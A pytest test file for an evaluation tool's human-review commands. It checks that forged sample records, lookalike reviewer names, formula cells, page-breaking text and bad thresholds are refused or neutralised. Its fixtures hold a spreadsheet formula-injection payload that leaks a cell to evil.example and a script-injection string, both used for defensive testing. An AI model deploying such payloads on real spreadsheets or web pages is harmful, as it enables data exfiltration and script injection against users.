"""Attacks on human validation (issue 21), each run through the real ``mteval review``
commands: a ratings file choosing its own sample, a forged sample record, one reviewer under
two spellings, formula cells in the review sheet, page-breaking text in the form, and
threshold values that used to end in a traceback."""

from __future__ import annotations

import copy
import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from test_review import build_card, candidate, rate, sheet  # noqa: F401  (fixtures by name)
from test_review import mteval as run_mteval
from trust_keys import private

from pytest_mteval.cards import runcard
from pytest_mteval.review import chain, csv_cells, form, sample


def mteval(*args):
    """`mteval`, its `review ingest` signing with the governance key (`trust_keys`)."""
    if args[:2] == ("review", "ingest"):
        args = (*args, "--sign-key", private("governance"))
    return run_mteval(*args)


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
#: entry index -> a prediction a spreadsheet or the page template could take for code
HOSTILE = {
    0: HYPERLINK,
    1: "+1+1",
    2: "-2+3",
    3: "@SUM(A1:A9)",
    4: "\t=1+1",
    5: "\r=1+1",
    6: "'=already quoted",
    7: "a __TITLE__ in the middle",
    8: "__DATA__",
    9: '</script><script>document.title="pwned"</script>',
    10: "long " * 30_000,  # past the csv module's default field limit (131,072 characters)
}


@pytest.fixture
def own_card(candidate, tmp_path):  # noqa: F811
    """A copy of the candidate card in a folder of its own (the sample record goes there)."""
    folder = tmp_path / "run"
    folder.mkdir()
    return shutil.copy(candidate, folder / "card.json")


def write_rows(path, rows):
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=form.COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    return path


def one_line_refusal(done):
    assert done.returncode == 1, done.stdout
    assert "Traceback" not in done.stdout + done.stderr
    line = done.stdout.strip()
    assert line.startswith("mteval review: ")
    assert "\n" not in line
    return line


# 1. The sample record fixes size, seed and card -------------------------------------------


def forged_small_ratings(tmp_path, card_path, size=1):
    """The attack of issue 21: ratings naming a sample of their own (-n1), one entry each."""
    card = runcard.load(card_path)
    drawn = sample.draw(card, size)
    files = []
    for name in ("Mallory", "Trudy"):
        rows = [
            {"sample_id": drawn.sample_id, "entry_id": e, "reviewer": name, "rating": "excellent"}
            for e in drawn.entry_ids()
        ]
        files.append(write_rows(tmp_path / f"{name}.csv", rows))
    return files


def test_ratings_cannot_choose_their_own_sample_size(own_card, tmp_path):
    assert mteval("review", "sample", own_card).returncode == 0  # the record: all 40 entries
    files = forged_small_ratings(tmp_path, own_card)
    out = tmp_path / "validated.json"
    done = mteval("review", "ingest", own_card, *files, "--out", out)
    line = one_line_refusal(done)
    assert "-n1-s" in line
    assert "recorded sample" in line
    assert not out.exists()


def test_a_sample_too_small_to_validate_is_not_drawn(own_card):
    line = one_line_refusal(mteval("review", "sample", own_card, "-n", 1))
    assert "at least 30" in line
    assert not list(own_card.parent.glob("review-*"))


def test_a_hand_made_small_sample_record_is_refused(own_card, tmp_path):
    card = runcard.load(own_card)
    drawn = sample.draw(card, 1)
    record = own_card.parent / f"review-{drawn.sample_id}.sample.json"
    kept = {"kind": "mteval review sample", **drawn.record(), "card_hash": card["run_card_hash"]}
    record.write_text(json.dumps(kept), encoding="utf-8")
    files = forged_small_ratings(tmp_path, own_card)
    out = tmp_path / "validated.json"
    line = one_line_refusal(mteval("review", "ingest", own_card, *files, "--out", out))
    assert str(record) in line
    assert "at least 30" in line
    assert not out.exists()


def test_a_record_for_another_card_or_with_chosen_entries_is_refused(own_card, tmp_path):
    sheets = tmp_path / "sheets"
    assert mteval("review", "sample", own_card, "-n", 30, "--out", sheets).returncode == 0
    [record] = sheets.glob("*.sample.json")
    [template] = sheets.glob("*.csv")
    a = rate(tmp_path / "a.csv", template, "A", ["excellent"] * 30)
    b = rate(tmp_path / "b.csv", template, "B", ["excellent"] * 30)
    data = json.loads(record.read_text(encoding="utf-8"))
    other = dict(data, card_hash="f" * 64)
    forged = tmp_path / "other.sample.json"
    forged.write_text(json.dumps(other), encoding="utf-8")
    args = ("review", "ingest", own_card, a, b, "--out", tmp_path / "v.json", "--sample")
    line = one_line_refusal(mteval(*args, forged))
    assert "card_hash" in line
    assert "not this card" in line
    card = runcard.load(own_card)
    unsampled = next(
        r["entry_id"] for r in card["results"] if r["entry_id"] not in data["entry_ids"]
    )
    chosen = dict(data, entry_ids=[unsampled, *data["entry_ids"][1:]])
    forged.write_text(json.dumps(chosen), encoding="utf-8")
    line = one_line_refusal(mteval(*args, forged))
    assert "entry_ids" in line
    assert not (tmp_path / "v.json").exists()
    # an entry of the card that is not in the recorded sample
    rows = list(csv.DictReader(a.open(encoding="utf-8")))
    rows[0]["entry_id"] = unsampled
    write_rows(a, rows)
    line = one_line_refusal(mteval(*args, record))
    assert f"{unsampled!r} is not in the sample" in line


def test_coverage_counts_against_the_recorded_size(own_card, tmp_path):
    sheets = tmp_path / "sheets"
    assert mteval("review", "sample", own_card, "-n", 30, "--out", sheets).returncode == 0
    [record] = sheets.glob("*.sample.json")
    [template] = sheets.glob("*.csv")
    few = ["excellent"] * 5 + [""] * 25
    a = rate(tmp_path / "a.csv", template, "A", few)
    b = rate(tmp_path / "b.csv", template, "B", few)
    out = tmp_path / "v.json"
    done = mteval("review", "ingest", own_card, a, b, "--sample", record, "--out", out)
    assert done.returncode == 0, done.stdout
    block = runcard.load(out)["human_validation"]
    assert block["sample"]["size"] == 30
    assert block["coverage"] == {"rated": 5, "sample": 30}
    assert block["meets_threshold"] is False


def test_a_validated_card_on_a_small_sample_does_not_verify(own_card, tmp_path):
    """The forged card the attack produced: one entry rated excellent by two names."""
    parent = runcard.load(own_card)
    drawn = sample.draw(parent, 1)
    [entry] = drawn.entry_ids()
    block = {
        "protocol": "benchmark spec §7.3",
        "extends": {
            "run_card_hash": parent["run_card_hash"],
            "run_id": parent["run_id"],
            "quality_tier": parent["scores"]["quality_tier"],
        },
        "sample": drawn.record(),
        "reviewers": [
            {"id": "r-1", "dates": [], "rated": 1},
            {"id": "r-2", "dates": [], "rated": 1},
        ],
        "ingested": "2026-12-02",
        "rated_entries": 1,
        "ratings": {"reject": 0, "gist": 0, "acceptable": 0, "excellent": 1},
        "per_entry": {entry: "excellent"},
        "usable_share": 1.0,
        "agreement": {},
        "threshold": {"min_reviewers": 2, "min_entries": 1, "min_usable": 0.8},
        "meets_threshold": True,
    }
    child = chain.extend(copy.deepcopy(parent), block)
    assert child["scores"]["quality_tier"] == "fluent (community validated)"
    path = runcard.write_new(child, tmp_path / "forged.json")
    done = mteval("verify", path)
    assert done.returncode == 1, done.stdout
    assert "human_validation" in done.stdout
    # the same with entries the sample does not hold
    block["sample"] = {**drawn.record(), "entry_ids": ["not-an-entry"]}
    path = runcard.write_new(chain.extend(copy.deepcopy(parent), block), tmp_path / "f2.json")
    done = mteval("verify", path)
    assert done.returncode == 1
    assert "not the entries drawn from the parent" in done.stdout
    # a real sample of 30, with ratings of entries outside it, or counts that are not theirs
    real = sample.draw(parent, 30)
    outside = next(
        r["entry_id"] for r in parent["results"] if r["entry_id"] not in real.entry_ids()
    )
    block["sample"] = real.record()
    block["per_entry"] = {outside: "excellent"}
    path = runcard.write_new(chain.extend(copy.deepcopy(parent), block), tmp_path / "f3.json")
    done = mteval("verify", path)
    assert "per_entry rates entries outside the sample" in done.stdout
    block["per_entry"] = {real.entry_ids()[0]: "reject"}
    path = runcard.write_new(chain.extend(copy.deepcopy(parent), block), tmp_path / "f4.json")
    done = mteval("verify", path)
    assert "ratings are not the count of per_entry" in done.stdout


# 2. One reviewer under two spellings -------------------------------------------------------


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("Anna Strauß", "ANNA STRAUSS"),  # case folding: ß -> ss
        ("İlkay", "ilkay"),  # Turkish dotted capital I folds to i + combining dot
        ("Alice", "Al\u200bice"),  # zero-width space
        ("Alice", "Ali\u00adce"),  # soft hyphen
        ("Alice", "\ufeffAlice\u2060"),  # BOM, word joiner
        ("Alice", "\u0410lice"),  # Cyrillic capital A
        ("Alice", "Аlісе"),  # Cyrillic а, і, с, е
        ("Alice", "AIice"),  # Latin capital I for l
        ("Alice", "Ａｌｉｃｅ"),  # fullwidth (NFKC)
        ("Bob", "B0B"),  # digit zero for O
    ],
)
def test_names_that_look_alike_are_one_reviewer(candidate, tmp_path, first, second):  # noqa: F811
    sheets = tmp_path / "sheets"
    assert mteval("review", "sample", candidate, "-n", 30, "--out", sheets).returncode == 0
    [record] = sheets.glob("*.sample.json")
    [template] = sheets.glob("*.csv")
    a = rate(tmp_path / "a.csv", template, first, ["excellent"] * 30)
    b = rate(tmp_path / "b.csv", template, second, ["excellent"] * 30)
    out = tmp_path / "v.json"
    done = mteval("review", "ingest", candidate, a, b, "--sample", record, "--out", out)
    line = one_line_refusal(done)
    assert "appears in more than one file" in line
    assert not out.exists()


def test_different_names_stay_different_reviewers(candidate, tmp_path):  # noqa: F811
    from pytest_mteval.review.reviewer_names import reviewer_key

    assert reviewer_key("Alice") != reviewer_key("Alicia")
    assert reviewer_key("José") != reviewer_key("Jose")  # a visible accent is a different name
    assert reviewer_key("Анна") == reviewer_key("Aнна")  # Latin A in a Cyrillic name
    assert reviewer_key("  Anna   Lee ") == reviewer_key("anna lee")


# 3. Formula cells, 4. page-breaking text ----------------------------------------------------


@pytest.fixture(scope="module")
def hostile_card(tmp_path_factory):
    return build_card(tmp_path_factory.mktemp("hostile"), HOSTILE)


def test_review_sheet_neutralises_formula_cells_and_ingest_reads_them_back(hostile_card, tmp_path):
    sheets = tmp_path / "sheets"
    done = mteval("review", "sample", hostile_card, "-n", 40, "--out", sheets)
    assert done.returncode == 0, done.stdout
    [template] = sheets.glob("*.csv")
    [record] = sheets.glob("*.sample.json")
    rows = list(csv.DictReader(template.open(encoding="utf-8", newline="")))
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    predictions = {r["prediction"] for r in rows}
    assert "'" + HYPERLINK in predictions
    assert "'\t=1+1" in predictions
    assert "''=already quoted" in predictions
    # ingest strips the quote again: the predictions match the card's
    a = rate(tmp_path / "a.csv", template, "A", ["excellent"] * 40)
    # as a spreadsheet saves it: the quote gone, the text kept
    b_rows = list(csv.DictReader(template.open(encoding="utf-8", newline="")))
    for row in b_rows:
        if row["prediction"] == "'" + HYPERLINK:
            row["prediction"] = HYPERLINK
        row.update(reviewer="B", rating="excellent")
    b = write_rows(tmp_path / "b.csv", b_rows)
    out = tmp_path / "v.json"
    done = mteval("review", "ingest", hostile_card, a, b, "--sample", record, "--out", out)
    assert done.returncode == 0, done.stdout
    assert runcard.load(out)["human_validation"]["rated_entries"] == 40


def test_review_help_says_cells_are_neutralised():
    done = mteval("review", "sample", "--help")
    assert "single quote" in " ".join(done.stdout.split())


def test_form_renders_page_breaking_predictions_as_data(hostile_card, tmp_path):
    sheets = tmp_path / "sheets"
    assert mteval("review", "sample", hostile_card, "-n", 40, "--out", sheets).returncode == 0
    [page] = sheets.glob("*.html")
    html = page.read_text(encoding="utf-8")
    assert html.count("<script") == 2  # the data block and the page's own script
    start = html.index('<script id="data" type="application/json">')
    start = html.index(">", start) + 1
    data = json.loads(html[start : html.index("</script>", start)])
    card = runcard.load(hostile_card)
    by_id = {r["entry_id"]: r["predicted"] for r in card["results"]}
    assert len(data["items"]) == 40
    assert all(item["prediction"] == by_id[item["entry_id"]] for item in data["items"])
    assert "__TITLE__" not in html.replace("a __TITLE__ in the middle", "")[:start]


def test_form_title_is_escaped_text():
    item = sample.Item("7", "source", "__TITLE__ __DATA__", "reference", "difficulty_1")
    drawn = sample.Sample("a" * 12 + "-n1-s1", "a" * 64, 1, 1, "difficulty", {}, (item,))
    page = form.html_form(drawn, "</title><script>bad()</script> __DATA__ & co")
    assert "<script>bad" not in page
    assert "&lt;/title&gt;&lt;script&gt;bad()&lt;/script&gt; __DATA__ &amp; co" in page
    start = page.index('type="application/json">') + len('type="application/json">')
    data = json.loads(page[start : page.index("</script>", start)])
    assert data["items"][0]["prediction"] == "__TITLE__ __DATA__"


# 5. Thresholds that are not numbers ---------------------------------------------------------


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--min-usable", "nan"),
        ("--min-usable", "inf"),
        ("--min-usable", "-1"),
        ("--min-usable", "2"),
        ("--min-usable", "lots"),
        ("--min-reviewers", "two"),
        ("--min-entries", "1e9"),
    ],
)
def test_bad_thresholds_end_in_one_line(candidate, sheet, tmp_path, option, value):  # noqa: F811
    a = rate(tmp_path / "a.csv", sheet, "A", ["excellent"] * 30)
    b = rate(tmp_path / "b.csv", sheet, "B", ["excellent"] * 30)
    out = tmp_path / "v.json"
    done = mteval("review", "ingest", candidate, a, b, "--out", out, f"{option}={value}")
    line = one_line_refusal(done)
    assert option in line
    assert not out.exists()


@pytest.mark.skipif(shutil.which("node") is None, reason="needs node to run the form's script")
def test_the_forms_export_cells_match_the_sheets(tmp_path):
    """The JavaScript the page includes for "Export CSV", run by node on the hostile cells:
    the same quoting as the CSV template, and ingest's reading restores every text."""
    script = (Path(form.__file__).parent / "templates" / "csv_cells.js").read_text("utf-8")
    texts = [*HOSTILE.values(), "'", "\n=1", "plain, with a comma", 'a "quote"', "-", ""]
    program = tmp_path / "cells.js"
    program.write_text(
        script + f"\nprocess.stdout.write(JSON.stringify({json.dumps(texts)}.map(cell)));\n",
        encoding="utf-8",
    )
    done = subprocess.run(["node", str(program)], capture_output=True, text=True, check=True)
    exported = json.loads(done.stdout)
    [row] = csv.reader(io.StringIO(",".join(exported), newline=""))
    assert row == [csv_cells.neutralise(t) for t in texts]
    assert [csv_cells.restore(c) for c in row] == texts
    assert row[0] == "'" + HYPERLINK
    page = form.html_form(sample.Sample("a" * 12 + "-n1-s1", "a" * 64, 1, 1, "d", {}, ()), "t")
    assert script.strip() in page
